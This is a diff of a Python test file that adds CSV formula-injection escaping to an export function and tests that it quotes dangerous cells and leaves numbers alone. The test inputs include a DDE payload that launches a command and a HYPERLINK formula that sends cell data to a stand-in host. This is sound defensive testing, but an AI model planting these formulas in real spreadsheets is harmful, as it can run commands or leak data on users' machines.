@@ -67,6 +67,13 @@ def test_csv_without_rows_has_its_headings() -> None:
     assert out.getvalue() == "id,name\n"
 
 
+def marked(text: str) -> str:
+    """What a spreadsheet would take for a formula is marked as a text; all else stays."""
+    begins = text.startswith(("=", "@", "\t", "\r", "+", "-"))
+    number = text[:1] in "+-" and not text[1:].removesuffix("%").strip("0123456789.,")
+    return f"'{text}" if begins and not number else text
+
+
 TEXTS = st.text(st.characters(codec="utf-8"), max_size=8)
 
 
@@ -77,14 +84,41 @@ def test_any_text_comes_back_from_csv(names: list[tuple[str, str]]) -> None:
     text = shown(rows, format="csv", columns=("name", "state"))
 
     found = list(csv.reader(io.StringIO(text, newline="")))[1:]
-    assert [tuple(row) for row in found] == names
+    assert [tuple(row) for row in found] == [(marked(name), marked(state)) for name, state in names]
 
 
 @given(st.lists(TEXTS, min_size=1, max_size=4))
 def test_a_column_alone_comes_back_from_csv(names: list[str]) -> None:
     text = shown([replace(WEB, name=name) for name in names], format="csv", columns=("name",))
 
-    assert [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:] == names
+    found = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
+    assert found == [marked(name) for name in names]
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "-a", "+", "="),
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://example.com?x="&A1)',
+    ],
+)
+def test_a_csv_cell_is_no_formula(formula: str) -> None:
+    row = replace(WEB, name=formula, tags={formula: formula})
+
+    text = shown([row], format="csv", columns=("name", "tags.*"))
+
+    heading, cells = csv.reader(io.StringIO(text, newline=""))
+    mark = "" if formula == "+" else "'"
+    assert heading == ["name", f"tags.{formula}"]
+    assert cells == [f"{mark}{formula}"] * 2
+
+
+@pytest.mark.parametrize("number", ["-5", "+3.25", "-1,000.50", "-7.5%", "-", "0", "a=b", "a-b"])
+def test_a_number_in_csv_stays_one(number: str) -> None:
+    text = shown([replace(WEB, name=number)], format="csv", columns=("name",))
+
+    assert next(csv.DictReader(io.StringIO(text)))["name"] == number
 
 
 @pytest.mark.parametrize("first", ["::error::x", " ::error::x"])
